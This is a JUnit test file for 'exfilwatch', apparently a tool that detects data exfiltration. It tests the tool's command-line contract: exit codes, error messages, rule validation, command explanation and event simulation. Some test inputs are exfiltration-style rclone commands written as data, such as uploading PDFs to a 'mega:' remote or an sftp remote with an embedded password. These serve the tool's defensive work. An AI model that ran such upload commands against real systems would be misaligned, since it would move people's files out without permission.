package exfilwatch.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import exfilwatch.job.SetupException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import org.apache.flink.client.program.StreamContextEnvironment;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.DeploymentOptions;
import org.apache.flink.core.execution.DefaultExecutorServiceLoader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The contract of the command line: exit codes, and one line for a mistake. */
class MainTest {

  @TempDir private Path folder;

  private String out = "";
  private String err = "";

  @Test
  void withoutACommandItSaysWhereHelpIs() {
    assertThat(run()).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("exfilwatch --help");
  }

  @Test
  void everyCommandHasHelp() {
    for (String command :
        new String[] {"hunt", "detect", "decode", "explain", "check", "simulate", "publish"}) {
      assertThat(run(command, "--help")).as(command).isEqualTo(Main.OK);
      assertThat(out).as(command).contains("Usage: exfilwatch " + command);
    }
  }

  @Test
  void aMissingInputIsOneLine() {
    assertThat(run("hunt", "no/such/file")).isEqualTo(Main.USAGE);
    assertThat(err).isEqualToIgnoringNewLines("exfilwatch: no/such/file: no such file or folder");
  }

  @Test
  void aMistypedOptionOrCommandOrNumberSaysWhatWasMeant() {
    assertThat(run("hunt", "--alrts", "x", "jobs/sample")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("did you mean --alerts?");
    assertThat(run("hnt")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("did you mean hunt?");
    assertThat(run("simulate", "--events", "many", "x.ndjson")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("'many' is not a whole number");
    assertThat(run("simulate", "--start", "today", "x.ndjson")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("2026-03-04T08:00:00Z");
  }

  @Test
  void whatTheBenchCantMeasureIsSaidBeforeItMeasures() {
    assertThat(run("bench", "--latency", "60")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("--latency must be at least 61");
    assertThat(run("bench", "--latency", "61", "--rate", "0")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("--rate must be at least 1");
  }

  @Test
  void insideAJobManagerAMistakeIsThrownForItMustLiveOn() {
    Configuration embedded = new Configuration().set(DeploymentOptions.TARGET, "embedded");
    StreamContextEnvironment.setAsContext(
        new DefaultExecutorServiceLoader(), embedded, getClass().getClassLoader(), false, true);
    try {
      assertThatThrownBy(() -> Main.main(new String[] {"detect", "--conf", "no/such.yaml"}))
          .isInstanceOf(SetupException.class)
          .hasMessageContaining("no/such.yaml");
      assertThatThrownBy(() -> Main.main(new String[] {"detect", "--cnof"}))
          .isInstanceOf(SetupException.class)
          .hasMessageContaining("--cnof");
    } finally {
      StreamContextEnvironment.unsetAsContext();
    }
  }

  @Test
  void anUnknownSourceNamesTheKnownOnes() {
    assertThat(run("decode", "--source", "sysmom", "jobs/sample")).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("sysmom").contains("sysmon");
  }

  @Test
  void aBrokenRuleIsNamedByFileLineAndElement() throws Exception {
    Path rule = folder.resolve("bad.yml");
    Files.writeString(
        rule,
        """
        title: Bad
        id: 0d1e7f2a-6d0a-4f0e-9c55-0e0f1d2c3b4a
        logsource: {category: process_creation}
        detection:
          a:
            Image|endwith: x
          condition: a
        """);
    assertThat(run("check", "--rules", rule.toString())).isEqualTo(Main.USAGE);
    assertThat(err).contains(rule.toString()).contains(":6:").contains("endwith");
    assertThat(run("hunt", "--rules", rule.toString(), "jobs/sample")).isEqualTo(Main.USAGE);
    assertThat(err).contains("endwith").doesNotContain("\tat ");
  }

  @Test
  void publishNeedsAGoodFolderAndATopic() throws Exception {
    Path rules = Files.createDirectories(folder.resolve("conf/rules"));
    assertThat(run("publish", rules.getParent().toString())).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("has no rule file");
    Path rule = rules.resolve("outbound_connection.yml");
    Files.copy(Path.of("conf/rules/outbound_connection.yml"), rule);
    assertThat(run("publish", rules.getParent().toString())).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("kafka.content is missing");
    Files.writeString(rules.resolve("bad.yml"), "title: [");
    assertThat(run("publish", rules.getParent().toString())).isEqualTo(Main.USAGE);
    assertThat(err).hasLineCount(1).contains("bad.yml:1: isn't YAML");
  }

  @Test
  void anUnknownKeyOfTheConfigurationIsAnError() throws Exception {
    Path conf = Files.writeString(folder.resolve("c.yaml"), "rules: [rules]\nincidents: {}\n");
    assertThat(run("check", "--conf", conf.toString())).isEqualTo(Main.USAGE);
    assertThat(err).contains("c.yaml:2").contains("incidents");
  }

  @Test
  void whatIsShippedIsGood() {
    assertThat(run("check")).isEqualTo(Main.OK);
    assertThat(out).contains("3f4c2b18-9d2e-4b7a-a3c1-8e6d9f2b5c7e").contains("good:");
  }

  @Test
  void explainsOneLineAsTextOrJson() {
    assertThat(run("explain", "--", "rclone.exe copy C:\\d mega:x --include *.pdf"))
        .isEqualTo(Main.OK);
    assertThat(out).contains("upload").contains("mega:x");
    assertThat(run("explain", "--json", "--", "rclone.exe copy C:\\d mega:x")).isEqualTo(Main.OK);
    assertThat(out).startsWith("{\"verdict\":\"runs\"").hasLineCount(1);
  }

  @Test
  void explainsManyLinesInOrderWhateverTheyAre() {
    InputStream stdin = System.in;
    try {
      String lines =
          """
          "rclone copy /a b:c"
          nonsense
          {"cmd": "rclone copy C:/d r:b", "os": "windows"}
          {"cmd": "rclone copy /a b:", "os": "beos"}
          {"args": ["x", "copy", "/a", ":sftp,host=203.0.113.5,pass=topsecretvalue:b"], "os": "linux"}
          """;
      System.setIn(new ByteArrayInputStream(lines.getBytes(UTF_8)));
      assertThat(run("explain", "--jsonl")).isEqualTo(Main.OK);
    } finally {
      System.setIn(stdin);
    }
    assertThat(out.lines())
        .satisfiesExactly(
            line -> assertThat(line).contains("\"verdict\":\"runs\""),
            line -> assertThat(line).contains("\"error\""),
            line -> assertThat(line).contains("\"kind\":\"local_path\""),
            line -> assertThat(line).contains("\"error\"").contains("beos"),
            line -> assertThat(line).contains("203.0.113.5").doesNotContain("topsecretvalue"));
  }

  @Test
  void anAlertCanBeAnExitCode() {
    Path alerts = folder.resolve("alerts.ndjson");
    assertThat(
            run("hunt", "--fail-on-alert", "--quiet", "--alerts", alerts.toString(), "jobs/sample"))
        .isEqualTo(Main.ALERTED);
    assertThat(err).isEmpty();
    assertThat(alerts).isNotEmptyFile();
  }

  @Test
  void simulatesTheSameBytesForTheSameSeed() throws Exception {
    Path a = folder.resolve("a.ndjson");
    Path b = folder.resolve("b.ndjson");
    Path planted = folder.resolve("planted.ndjson");
    for (Path file : new Path[] {a, b}) {
      assertThat(
              run(
                  "simulate",
                  "--events",
                  "50",
                  "--incidents",
                  "2",
                  "--planted",
                  planted.toString(),
                  file.toString()))
          .isEqualTo(Main.OK);
    }
    assertThat(a).hasSameBinaryContentAs(b);
    assertThat(Files.readAllLines(planted)).hasSize(2);
  }

  private int run(String... args) {
    PrintStream stdout = System.out;
    PrintStream stderr = System.err;
    ByteArrayOutputStream outBytes = new ByteArrayOutputStream();
    ByteArrayOutputStream errBytes = new ByteArrayOutputStream();
    try {
      System.setOut(new PrintStream(outBytes, true, UTF_8));
      System.setErr(new PrintStream(errBytes, true, UTF_8));
      return Main.run(args);
    } finally {
      System.setOut(stdout);
      System.setErr(stderr);
      out = outBytes.toString(UTF_8);
      err = errBytes.toString(UTF_8);
    }
  }
}
